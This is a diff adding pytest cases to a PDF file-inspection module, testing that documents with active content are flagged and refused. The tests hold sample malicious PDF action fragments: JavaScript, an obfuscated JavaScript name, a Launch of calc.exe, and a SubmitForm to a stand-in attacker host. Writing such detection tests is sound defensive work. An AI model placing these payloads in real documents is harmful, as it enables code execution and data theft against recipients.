@@ -11,7 +11,7 @@ from PIL import Image
 
 from files.inspection import documents, sounds
 from files.inspection.kinds import BY_EXTENSION
-from files.inspection.rules import confirm
+from files.inspection.rules import Policy, confirm
 from files.inspection.values import Document, Office, PageLimits, Sound, Unreadable
 from tests.files import samples
 from tests.files.inspection.test_rules import HOSTILE, LATER, judge
@@ -50,6 +50,54 @@ def test_pdfs_that_cannot_be_shown_are_named() -> None:
     assert page(b"") == Unreadable("broken")
     assert page(samples.png()) == Unreadable("broken")
     assert page(samples.pdf(3), PageLimits(pages=2)) == Unreadable("limit")
+
+
+@pytest.mark.parametrize("packed", [False, True])
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
+        b"<</S/J#61va#53cript/JS(1)>>",
+        b"<< /S /Launch /F (calc.exe) >>",
+        b"<< /S /SubmitForm /F (http://evil.example) >>",
+        b"<< /S /GoToE /T << /R /C /N (x) >> >>",
+    ],
+)
+def test_pdfs_that_act(action: bytes, packed: bool) -> None:
+    data = samples.pdf_with(action, catalog=b"/OpenAction 10 0 R", packed=packed)
+    seen = page(data)
+    assert isinstance(seen, Document)
+    assert seen.active
+    verdict = judge("合同.pdf", data)
+    assert verdict.accepted
+    assert confirm(verdict, seen).refusal == "scripted"
+    allowed = confirm(verdict, seen, Policy(macros=True))
+    assert allowed.accepted
+    assert allowed.macros
+
+
+def test_scripts_in_the_documents_own_list() -> None:
+    names = b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"
+    seen = page(samples.pdf_with(catalog=names))
+    assert isinstance(seen, Document)
+    assert seen.active
+
+
+@pytest.mark.parametrize(("name", "active"), [(b"invoice.XML", False), (b"a.exe", True), (b"noname", True)])
+def test_files_in_a_pdf_are_data_or_refuse_it(name: bytes, active: bool) -> None:
+    seen = page(samples.pdf_with_file(name))
+    assert isinstance(seen, Document)
+    assert seen.active is active
+
+
+@pytest.mark.parametrize(
+    "catalog",
+    [b"/OpenAction [4 0 R /Fit]", b"/JavaScripts 1", b"/PageLaunch 1", b"/Launchpad true", b"/Note (JavaScript)"],
+)
+def test_what_pdfs_of_everyday_have_is_fine(catalog: bytes) -> None:
+    seen = page(samples.pdf_with(catalog=catalog))
+    assert isinstance(seen, Document)
+    assert not seen.active
 
 
 @pytest.mark.parametrize(("width", "height"), [(14_400, 14_400), (200_000, 100), (3, 4)])
